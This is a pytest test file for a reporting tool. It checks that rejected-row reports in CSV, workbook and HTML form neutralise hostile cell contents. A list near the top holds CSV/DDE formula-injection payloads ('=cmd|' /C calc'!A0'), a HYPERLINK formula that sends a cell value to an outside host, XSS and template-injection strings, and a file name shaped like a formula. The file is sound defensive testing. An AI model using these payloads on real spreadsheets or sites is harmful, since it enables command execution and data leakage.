"""What a spreadsheet or a browser would run is inert in everything that is written about a broken file."""

from __future__ import annotations

import csv
import io
import re
import zipfile
from html.parser import HTMLParser
from typing import TYPE_CHECKING

import pytest
from tests.corruption.registry import DELIVERIES
from tests.corruption.running import run
from tests.offices import APRIL
from tests.offices import new_database
from tests.offices import new_desk
from tests.offices import tree

from outscore.reporting.rejects import rejects_csv
from outscore.reporting.rejects import rejects_workbook
from outscore.workflow.rejects import rejects_of

if TYPE_CHECKING:
    from tests.corruption.cases import Case

RUNS = ("=", "+", "-", "@", "\t", "\r", "\n", "\uff1d", "\uff0b", "\uff0d", "\uff20")
NUMBER = re.compile(r"[+-]?[0-9]+([.,][0-9]+)?")
HOSTILE = (
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://x.example?"&A1,"click")',
    "+cmd",
    "-2+3+cmd",
    "\t=1+1",
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "javascript:alert(1)",
    "{{7*7}}{% include 'x' %}",
)


def _is_hostile(case: Case) -> bool:
    return any(word in f"{case.name} {case.broken}" for word in ("formula", "script"))


BROKEN = [case for case in DELIVERIES if _is_hostile(case)]


@pytest.mark.parametrize("case", BROKEN, ids=lambda case: f"{case.form}: {case.name}")
def test_rejects_files_of_the_corpus_run_nothing(case: Case) -> None:
    checked = run(case)
    rejects = rejects_of(checked.header, checked.rejected, checked.issues)
    no_formula_in_text(rejects_csv(rejects))
    no_formula_in_workbook(rejects_workbook(rejects, "Rejected rows") or b"")


def no_formula_in_text(content: bytes) -> None:
    """No cell of a delimited text begins as a formula does; a plain number may have its sign."""
    rows = csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""))
    for cell in (cell for row in rows for cell in row):
        assert not cell.startswith(RUNS) or NUMBER.fullmatch(cell), cell


def no_formula_in_workbook(content: bytes) -> None:
    """No cell of a workbook is a formula, and nothing in it leads elsewhere."""
    with zipfile.ZipFile(io.BytesIO(content)) as book:
        for name in book.namelist():
            part = book.read(name)
            assert b"<f>" not in part
            assert b"<f " not in part
            assert b'TargetMode="External"' not in part


class _Running(HTMLParser):
    """What a page would run or fetch that the test's own hostile texts ask for."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        values = " ".join(f"{name}={value}" for name, value in attrs)
        if any(name.startswith("on") for name, _ in attrs) or "alert(1)" in values.split("title=")[0]:
            self.found.append(f"{tag} {values}")
        if tag in ("img", "iframe", "object", "embed") and "src=x" in values:
            self.found.append(f"{tag} {values}")


def no_script_in_page(content: bytes) -> None:
    """No hostile text of a file is anything but text on a page."""
    text = content.decode("utf-8-sig")
    looked = _Running()
    looked.feed(text)
    assert looked.found == []
    assert "<script>alert" not in text


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> dict[str, bytes]:
    """Everything that a month writes about files whose cells, codes and columns are hostile."""
    folder = tmp_path_factory.mktemp("inert")
    desk = new_desk(folder, new_database("sqlite", folder))
    quoted = [f'"{text.replace(chr(34), chr(34) * 2)}"' for text in HOSTILE]
    rows = ["A1,2026-04,sales,100,97", "bolt,2026-04,sales,200,150"]
    for text in quoted:
        rows += [f"A1,2026-04,{text},10,9", f"A1,2026-04,x{len(rows)},{text},1", f"{text},2026-04,sales,1,1"]
        rows += [f"A1,{text},sales,1,1", f"A1,2026-04,{text}", f"A1,2026-04,sales,1,1,{text}"]
    desk.drop("figures1.csv", *rows)
    for number, text in enumerate(quoted, start=2):
        desk.write(
            f"inbox/figures{number}.csv", f"Vendor,Month,Queue,Answered,In time,{text}\nA1,2026-04,s,1,1,1\n"
        )
    desk.write("inbox/figures=cmd.csv", "Vendor,Month,Queue,Answered,In time\nA1,2026-04,extra,many,1\n")
    desk.run(APRIL)
    return tree(folder / "out")


def test_nothing_that_a_month_writes_about_hostile_files_runs(written: dict[str, bytes]) -> None:
    kinds = {name.rpartition(".")[2] for name in written}
    assert {"csv", "xlsx", "html"} <= kinds
    whole = b"".join(written.values())
    assert b"calc" in whole  # what was sent is there to be read
    for name, content in written.items():
        match name.rpartition(".")[2]:
            case "csv":
                no_formula_in_text(content)
            case "xlsx":
                no_formula_in_workbook(content)
            case "html":
                no_script_in_page(content)


def test_file_names_that_are_formulas_lead_nowhere(written: dict[str, bytes]) -> None:
    assert [name for name in written if ".." in name.split("/")] == []
